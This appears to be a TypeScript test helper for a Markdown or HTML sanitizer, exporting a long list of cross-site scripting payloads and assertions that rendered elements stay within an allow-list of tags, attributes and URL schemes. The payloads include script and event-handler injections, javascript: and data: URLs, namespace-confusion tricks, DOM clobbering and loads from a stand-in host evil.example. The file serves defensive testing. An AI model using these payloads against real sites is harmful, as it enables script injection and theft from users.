import { expect } from 'vitest'
import type { HtmlTag } from '../html.ts'

/** Texts that become scripts where a renderer or a sanitizer is careless. */
export const XSS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p id="__proto__" name="constructor">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php alert(1) ?>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61;vascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]( javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/x)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](x "onerror=alert(1)")',
  '![x](x"onerror="alert(1))',
  '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: data:text/html,<script>alert(1)</script>\n\n![x]',
  'www.example.org"onmouseover="alert(1)',
  'https://a.example/<script>alert(1)</script>',
  'a@b.example"onmouseover=alert(1)',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onload=alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '- [x] <input type=image src=x onerror=alert(1)>',
  '[^a]\n\n[^a]: <script>alert(1)</script>',
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  '# <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '<a href="https://a.example" target=_blank onclick=alert(1)>x</a>',
  '<img src=x:x onerror=alert(1)//',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<x onclick=alert(1)>',
  '[a](<b)c>"onclick="alert(1))',
  // Namespaces, raw text and comments, which parsers take for different things.
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><style></desc><img title="</style><img src onerror=alert(1)>">',
  '<svg><foreignObject><math><mi><style><img title="</style><img src onerror=alert(1)>">',
  '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=alert(1)>">',
  '<math href="javascript:alert(1)">x</math>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]>',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<select><option>&lt;img src=x onerror=alert(1)&gt;</option></select>',
  '<table><style><p title="</style><img src=x onerror=alert(1)>"></table>',
  '<table><caption><svg><style><a id="</style><img src=x onerror=alert(1)>">',
  '<form><input name=attributes><input name=parentNode></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<p><!--<p title="--><img src=x onerror=alert(1)>">',
  '<p><!--!><img src=x onerror=alert(1)>-->',
  '<p><!--x--!><img src=x onerror=alert(1)>-->',
  '<p><!---><img src=x onerror=alert(1)>-->',
  '<p><! foo="><img src=x onerror=alert(1)>">',
  '<p></ foo="><img src=x onerror=alert(1)>">',
  '<p><? foo="><img src=x onerror=alert(1)>">',
  '<p><![CDATA[><img src=x onerror=alert(1)>]]>',
  '<script/src=//evil.example/x.js></script>',
  '<script\n>alert(1)</script\n>',
  '<style>*{background:url(//evil.example)}</style>',
  '&lt;<script>alert(1)</script>',
  // Attributes that never end, run into one another, or load and run what they name.
  '<a href="https://a.example title="x" onmouseover="alert(1)">x</a>',
  '<img alt="x` `" title=`onerror=alert(1)` src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=x onerror\n=\nalert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x\u000conerror=alert(1)>',
  `<p title='"><img src=x onerror=alert(1)>'>x</p>`,
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  '<p title=" /><img src=x onerror=alert(1)>">x</p>',
  '<div onpointerrawupdate=alert(1) ONCLICK=alert(1) oNfOcUs=alert(1) tabindex=1 autofocus>x</div>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&Tab;ascript:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="\tJAVASCRIPT&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="https://a.example" ping="https://evil.example" target="_blank">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x, x onerror=alert(1) 2x" longdesc="javascript:alert(1)">',
  '<picture><source srcset="javascript:alert(1) 2x"><source srcset="(((" onerror=alert(1)></picture>',
  '<video src=x poster=javascript:alert(1) onerror=alert(1)><source src=x onerror=alert(1)></video>',
  '<audio src onloadstart=alert(1)>',
  '<video src="/uploads/a.mp4" poster="javascript:alert(1)" controls autoplay onloadstart=alert(1) oncanplay=alert(1)>',
  '<audio controls><source src="javascript:alert(1)"><source src="/uploads/a.mp3" onerror=alert(1)></audio>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>',
  '<input type=image src=x formaction="javascript:alert(1)" onerror=alert(1)>',
  '<input type=password name=password>',
  '<isindex action=javascript:alert(1) type=image>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))" class="modal">x</div>',
  '<a is="evil" slot="x" nonce="x" part="x">x</a>',
  '<p srcdoc="<script>alert(1)</script>" itemtype="javascript:alert(1)">x</p>',
  // Names of the page's own elements, functions and variables.
  '<a id=location name=documentElement href="https://a.example">x</a>',
  '<img name=getElementById><img id=body name=cookie>',
  '<a id=config></a><a id=config name=url href="https://evil.example">x</a>',
  '<div id="user-content-x footnote-label" aria-labelledby="secret">x</div>',
  // Ends of what the page around it has begun, and beginnings that are never ended.
  '</div></article></body></html><script>alert(1)</script>',
  '<td>x</td></tr></table><tr><td>y',
  '<div><p><ul><li><b><i><table><tr><td>x',
  '<div>\n\ntext\n\n<b>bold\n\n</div>\n\n</b>',
]

/** GitHub's allow-list, the checkboxes of its task lists, media and figures. */
const ELEMENTS: ReadonlySet<string> = new Set(
  (
    'a b blockquote br code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li ol p picture pre q ' +
    'rp rt ruby s samp section source span strike strong sub summary sup table tbody td tfoot th thead tr tt ul var video audio'
  ).split(' '),
)
const ATTRIBUTES: ReadonlySet<string> = new Set(
  (
    'abbr accept accept-charset accesskey action align alt axis border cellpadding cellspacing char charoff charset ' +
    'checked clear cols colspan color compact coords datetime dir enctype frame headers height hreflang hspace ismap id ' +
    'label lang maxlength media method multiple name nohref noshade nowrap open prompt readonly rev rowspan rows rules ' +
    'scope selected shape size span start summary tabindex title usemap valign value width itemprop itemscope itemtype ' +
    'href src srcset longdesc cite disabled type for class aria-describedby aria-label aria-labelledby ' +
    'data-footnote-backref data-footnote-ref data-footnotes data-callout controls muted loop preload poster'
  ).split(' '),
)
const CLASSES =
  /^(?:language-.+|sr-only|footnotes|data-footnote-backref|task-list-item|contains-task-list|callout(?:-note|-tip|-important|-warning|-caution)?)$/
const SCHEMES: ReadonlySet<string> = new Set(['http', 'https', 'mailto', 'irc', 'ircs', 'xmpp'])
/** Attributes by which a page finds its elements. */
const NAMES: ReadonlySet<string> = new Set(['id', 'name', 'aria-describedby', 'aria-labelledby'])
/** Attributes whose value a browser may go to or load. */
const ADDRESSES: ReadonlySet<string> = new Set(['href', 'src', 'cite', 'longdesc', 'action', 'usemap', 'poster'])

/** The id of a heading, which is made from its text: no name of the document object, and none with capitals. */
const HEADING_ID = /^(?!user-content-)[\p{Ll}\p{Lo}\p{M}\p{N}-]+$/u

/** Asserts that an element can do nothing but be shown. */
export function expectInertElement({ tag, attributes }: HtmlTag, html: string): void {
  expect(ELEMENTS, html).toContain(tag)
  if (tag === 'input') expect([attributes.get('type'), attributes.has('disabled')], html).toEqual(['checkbox', true])
  if (tag === 'video' || tag === 'audio') expect(attributes.get('src') ?? '/uploads/', html).toMatch(/^\/uploads\//)
  for (const [name, value] of attributes) {
    expect(ATTRIBUTES, html).toContain(name)
    if (name === 'id' && /^h[1-6]$/.test(tag) && HEADING_ID.test(value)) continue
    expectInertValue(name, value, html)
  }
}

function expectInertValue(name: string, value: string, html: string): void {
  const words = value.split(/\s+/).filter((word) => word !== '')
  if (NAMES.has(name)) for (const word of words) expect(word, html).toMatch(/^user-content-/)
  if (name === 'class') for (const word of words) expect(word, html).toMatch(CLASSES)
  if (name === 'srcset') for (const url of value.split(',')) expectSafeUrl(url, html)
  if (ADDRESSES.has(name)) expectSafeUrl(value, html)
}

function expectSafeUrl(url: string, html: string): void {
  // A browser drops control characters and leading spaces before it looks for the scheme (WHATWG URL).
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(url.replace(/[\p{Cc} ]/gu, ''))?.[1]?.toLowerCase()
  if (scheme !== undefined) expect(SCHEMES, html).toContain(scheme)
}
